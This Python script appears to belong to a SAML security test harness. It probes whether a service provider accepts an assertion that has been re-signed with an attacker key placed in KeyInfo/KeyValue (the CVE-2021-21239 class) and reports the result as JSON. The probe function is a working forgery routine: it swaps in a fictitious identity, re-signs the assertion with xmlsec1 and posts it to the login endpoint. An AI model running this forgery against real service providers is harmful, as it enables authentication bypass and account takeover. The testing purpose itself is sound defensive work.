#!/usr/bin/env python3
"""Advisory probe: an assertion signed with an attacker key that travels as ds:KeyValue.

CVE-2021-21239 (pysaml2 < 6.5.0): xmlsec1 verifies with any key the document itself offers
unless told to use only X.509 certificates, so an attacker who signs with their own RSA key and
puts the public key in KeyInfo/KeyValue is "verified". The harness catalogue covers the X.509
flavour (signature.untrusted-key-in-key-info), which xmlsec1 does not trust; this probe covers
the KeyValue flavour until the catalogue has it.

It drives one real login at the SP (so InResponseTo and the session are genuine), mints the
broker's response for that request with `mitid-harness mint`, decrypts it with xmlsec1 and the
SP key, swaps the NameID for an attacker-chosen identity, re-signs the assertion with the MOCK
attacker key (KeyInfo = KeyValue, filled in by `xmlsec1 --sign`), posts it to the ACS and asks
the whoami page who is logged in. The result is written as a one-scenario report in the
harness's JSON shape, so lib/matrix.py merges it into the row.

It posts a *plaintext* assertion, so it says something only about SPs that accept one (their
`legacy.unencrypted-assertion` verdict is FAIL); for the others the run script records SKIPPED.

Usage: probe_keyvalue.py HARNESS ROW_DIR OUT_JSON    (standard library + xmlsec1 only)
"""

import base64
import http.cookiejar
import json
import os
import re
import subprocess
import sys
import tempfile
import tomllib
import urllib.parse
import urllib.request
import zlib

FORGED_UUID = "6d6f636b-a77a-4c4b-8000-00000000beef"  # "mock" prefix: a fictitious identity
SCENARIO = "probe.signature-key-value"
TITLE = "Assertion signed with an attacker key given as ds:KeyValue (CVE-2021-21239 class)"

TEMPLATE = (
    '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
    '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
    '<ds:Reference URI="#{id}"><ds:Transforms>'
    '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
    '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
    '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue/>'
    "</ds:Reference></ds:SignedInfo><ds:SignatureValue/>"
    "<ds:KeyInfo><ds:KeyValue/></ds:KeyInfo></ds:Signature>"
)


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def run(cmd, **kw):
    return subprocess.run(cmd, check=True, capture_output=True, text=True, **kw).stdout


def start_login(row):
    """A real SP-initiated login: the cookie jar and the AuthnRequest ID the SP expects back."""
    with open(os.path.join(row, "sp.toml"), "rb") as f:
        sp = tomllib.load(f)
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar), NoRedirect)
    url, location = sp["login_url"], ""
    for _ in range(5):
        try:
            opener.open(url, timeout=10)
            raise ValueError("the SP did not redirect to the IdP")
        except urllib.error.HTTPError as e:
            location = urllib.parse.urljoin(url, e.headers.get("Location", ""))
        if "SAMLRequest=" in location:
            break
        url = location
    query = urllib.parse.parse_qs(urllib.parse.urlparse(location).query)
    request_xml = zlib.decompress(base64.b64decode(query["SAMLRequest"][0]), -15).decode()
    # Either quote: ruby-saml (REXML) writes ID='...'.
    request_id = re.search(r'\bID=["\']([^"\']+)["\']', request_xml).group(1)
    return sp, opener, request_id


def genuine_plaintext_response(harness, row, request_id, tmp):
    """The broker's response for this request, decrypted with the SP key (assertion in clear).

    The probes only need a realistic, genuinely signed assertion to tamper with, and xmlsec1 1.2
    must be able to decrypt it: mint for a copy of the metadata without md:EncryptionMethod.
    """
    md = open(os.path.join(row, "sp-metadata.xml")).read()
    md = re.sub(r"<(\w+:)?EncryptionMethod\b[^>]*?/>", "", md)
    md = re.sub(r"<(\w+:)?EncryptionMethod\b.*?</(\w+:)?EncryptionMethod>", "", md, flags=re.S)
    open(os.path.join(tmp, "sp-metadata.xml"), "w").write(md)
    minted = run([harness, "mint", "--sp-metadata", os.path.join(tmp, "sp-metadata.xml"),
                  "--identity", "anna", "--in-response-to", request_id, "--xml",
                  "--encryption", "compatible"])
    open(os.path.join(tmp, "minted.xml"), "w").write(minted)
    run(["xmlsec1", "--decrypt", "--privkey-pem", os.path.join(row, "sp.key"),
         "--output", os.path.join(tmp, "plain.xml"), os.path.join(tmp, "minted.xml")])
    xml = open(os.path.join(tmp, "plain.xml")).read()
    xml = re.sub(r"<(\w+:)?EncryptedAssertion[^>]*>\s*", "", xml)
    xml = re.sub(r"\s*</(\w+:)?EncryptedAssertion>", "", xml)
    return xml


def post_and_ask(sp, opener, acs, document):
    """POST the document as SAMLResponse like a browser, then ask the whoami page."""
    body = urllib.parse.urlencode({"SAMLResponse": base64.b64encode(document).decode()}).encode()
    try:
        opener.open(acs, data=body, timeout=30)
    except urllib.error.HTTPError:
        pass  # 3xx (no redirect following) or a refusal page: the whoami answer decides
    try:
        who = opener.open(sp["oracle"]["whoami_url"], timeout=10).read().decode()
    except urllib.error.HTTPError as e:  # 3xx/401/403: no session
        return ("PASS", "rejected: whoami answered %d after posting the forged response" % e.code)
    if FORGED_UUID in who:
        return None
    return ("FAIL", "the SP created a session after the forged response: %s" % who.strip()[:120])


def probe(harness, row, root):
    sp, opener, request_id = start_login(row)
    with tempfile.TemporaryDirectory() as tmp:
        xml = genuine_plaintext_response(harness, row, request_id, tmp)
        acs = re.search(r'<(?:\w+:)?Response\b[^>]*\bDestination="([^"]+)"', xml).group(1)
        xml = re.sub(r"<ds:Signature\b.*?</ds:Signature>", "", xml, count=1, flags=re.S)
        xml, n = re.subn(r"(/person/uuid/)[0-9a-fA-F-]{36}", r"\g<1>" + FORGED_UUID, xml)
        if n == 0:
            return "could not find the MitID NameID to replace"
        assertion_id = re.search(r"<(?:\w+:)?Assertion\b[^>]*\bID=\"([^\"]+)\"", xml).group(1)
        # The template goes right after the assertion's Issuer, where the schema wants it.
        xml = re.sub(r"(<(?:\w+:)?Assertion\b.*?</(?:\w+:)?Issuer>)",
                     lambda m: m.group(1) + TEMPLATE.format(id=assertion_id), xml, count=1, flags=re.S)
        open(os.path.join(tmp, "tmpl.xml"), "w").write(xml)
        run(["xmlsec1", "--sign", "--privkey-pem",
             os.path.join(root, "mock-broker/testdata/pki/attacker.key.pem"),
             "--id-attr:ID", "urn:oasis:names:tc:SAML:2.0:assertion:Assertion",
             "--output", os.path.join(tmp, "forged.xml"), os.path.join(tmp, "tmpl.xml")])
        forged = open(os.path.join(tmp, "forged.xml"), "rb").read()
    if b"RSAKeyValue" not in forged:
        return "xmlsec1 did not fill in the KeyValue"
    return post_and_ask(sp, opener, acs, forged) or (
        "FAIL", "the SP logged in the forged identity %s: it verified the signature with the "
        "attacker key from KeyInfo/KeyValue" % FORGED_UUID)


def main():
    if len(sys.argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    harness, row, out = sys.argv[1], sys.argv[2], sys.argv[3]
    root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
    try:
        result = probe(harness, row, root)
    except (subprocess.CalledProcessError, OSError, AttributeError, KeyError, ValueError) as e:
        detail = getattr(e, "stderr", "") or ""
        result = ("INCONCLUSIVE", "probe could not run: %s %s" % (e, detail.strip()[:200]))
    if isinstance(result, str):
        result = ("INCONCLUSIVE", result)
    verdict, message = result
    report = {"results": [{"id": SCENARIO, "title": TITLE, "family": "probe", "verdict": verdict,
                           "message": message}]}
    with open(out, "w") as f:
        json.dump(report, f, indent=1)
    print("%s %s: %s" % (verdict, SCENARIO, message))
    return 0


if __name__ == "__main__":
    sys.exit(main())
